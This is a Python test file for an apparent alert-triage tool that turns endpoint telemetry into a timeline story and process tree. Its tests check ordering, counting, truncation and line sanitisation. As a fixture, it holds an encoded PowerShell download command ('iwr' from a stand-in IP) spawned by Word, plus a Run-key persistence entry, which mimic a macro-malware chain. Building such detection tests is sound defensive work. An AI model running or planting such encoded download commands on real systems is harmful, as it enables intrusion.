import base64
import json

from hypothesis import given
from hypothesis import strategies as st

from shared.core.conclude import NO_RULES, conclude
from shared.core.conclude.steps import MAX_STEPS
from shared.core.conclude.story import MAX_LINE
from shared.core.tables import whatever_it_names
from tests.builders import alert, finding, key, node, tied

ENCODED = "powershell.exe -enc " + base64.b64encode("iwr http://203.0.113.10/a".encode("utf-16-le")).decode()


def _chain() -> tuple[object, ...]:
    word = node("WINWORD.EXE", pid=8420, after=-2, depth=-1)
    shell = node("powershell.exe", ENCODED, parent=key(8420, -2))
    return (word, shell)


def test_the_story_opens_with_the_validation_and_tells_steps_in_time_order() -> None:
    events = (
        tied("DeviceNetworkEvents", "ConnectionSuccess", after=4, RemoteIP="203.0.113.10", RemotePort=443),
    )
    story = conclude(alert(), None, finding(nodes=_chain(), events=events), NO_RULES).story.splitlines()  # type: ignore[arg-type]
    assert story[0].startswith("Unproven: ")
    assert story[1] == "On 2026-11-24 (UTC):"
    assert story[2].startswith("10:02:09 WINWORD.EXE started")
    assert story[3].startswith("10:02:11 WINWORD.EXE started powershell.exe as alice (the alert's process)")
    assert "[decoded: iwr http://203.0.113.10/a]" in story[3]
    assert story[4] == "10:02:15 powershell.exe connected to 203.0.113.10 port 443"


def test_the_same_thing_is_told_once_with_its_count() -> None:
    events = tuple(
        tied("DeviceFileEvents", "FileCreated", after=n, number=n, FolderPath=f"C:\\Temp\\{n}.txt")
        for n in range(7)
    )
    story = conclude(alert(), None, finding(nodes=(node("a.exe"),), events=events), NO_RULES).story
    assert story.count("created files in C:\\Temp\\ (7 times)") == 1


def test_a_long_story_keeps_the_alerts_process_and_counts_the_rest() -> None:
    nodes = tuple(node(f"c{n}.exe", pid=n + 10, after=n + 1, depth=1) for n in range(300))
    story = conclude(alert(), None, finding(nodes=(node("evil.exe"), *nodes)), NO_RULES).story
    assert len(story.splitlines()) <= MAX_STEPS + 5
    assert "evil.exe" in story
    assert "241 steps of less weight" in story


@given(st.text(max_size=300), st.text(max_size=300))
def test_no_name_can_break_a_line_or_move_the_cursor(name: str, command: str) -> None:
    nodes = (node(name or "x", command),)
    events = (tied("DeviceNetworkEvents", "ConnectionSuccess", RemoteUrl=name),)
    made = conclude(alert(), None, finding(nodes=nodes, events=events), NO_RULES)
    lines = made.story.split("\n")
    assert all(line.isprintable() and len(line) <= MAX_LINE for line in lines)
    assert len(lines) <= 5
    assert json.loads(made.process_tree)[0]["depth"] == 0


def test_a_huge_tree_stays_within_its_column_and_says_what_it_left_out() -> None:
    nodes = tuple(node("c.exe", "x" * 1_500, pid=n + 10, after=n + 1, depth=1) for n in range(500))
    tree = conclude(alert(), None, finding(nodes=(node("evil.exe"), *nodes)), NO_RULES).process_tree
    entries = json.loads(tree)
    assert len(tree) < 31_000
    assert entries[0]["name"] == "evil.exe"
    assert entries[-1]["left_out"] == 501 - (len(entries) - 1)


NAME = "svc_Update'1.exe"
FOLDER = "C:\\Users\\o'brien\\a \\\\b\\"


def test_what_a_line_names_can_be_copied_as_it_is() -> None:
    command = f'"{FOLDER}{NAME}"  -x \\\\srv\\share "a  b" C:\\\\t'
    address, url = "2001:db8::80", "http://203.0.113.45/a.png"
    events = (
        tied(
            "DeviceNetworkEvents", "ConnectionSuccess", RemoteIP="203.0.113.45", RemotePort=80, RemoteUrl=url
        ),
        tied("DeviceNetworkEvents", "ConnectionSuccess", number=2, RemoteIP=address, RemotePort=443),
        tied("DeviceFileEvents", "FileCreated", number=3, FolderPath=FOLDER + NAME, FileName=NAME),
        tied(
            "DeviceRegistryEvents",
            "RegistryValueSet",
            number=4,
            RegistryKey="HKLM\\Soft\\Run",
            RegistryValueName=NAME,
        ),
        tied("DeviceImageLoadEvents", "ImageLoaded", number=5, FileName=NAME),
        tied("DeviceEvents", "OpenProcessApiCall", number=6, FileName=NAME),
    )
    found = finding(nodes=(node(NAME, command),), events=events)
    lines = conclude(alert(), None, found, NO_RULES).story.splitlines()
    told = {line[9:] for line in lines}
    assert f"{NAME} started as alice (the alert's process): {command}" in told
    assert f"{NAME} connected to {url} port 80" in told
    assert f"{NAME} connected to {address} port 443" in told
    assert f"{NAME} created files in {FOLDER}" in told
    assert f"{NAME} changed HKLM\\Soft\\Run {NAME}" in told
    assert f"{NAME} loaded {NAME}" in told
    assert f"{NAME} caused OpenProcessApiCall on {NAME}" in told


def test_what_an_event_was_done_to_can_be_copied_as_it_is() -> None:
    for row, said in (
        ({"RemoteIP": "2001:db8::80", "RemotePort": 443}, "2001:db8::80 port 443"),
        ({"RemoteUrl": "http://203.0.113.45/a.png", "RemotePort": 80}, "http://203.0.113.45/a.png port 80"),
        ({"FolderPath": FOLDER + NAME}, FOLDER + NAME),
    ):
        assert whatever_it_names(row)[1] == said
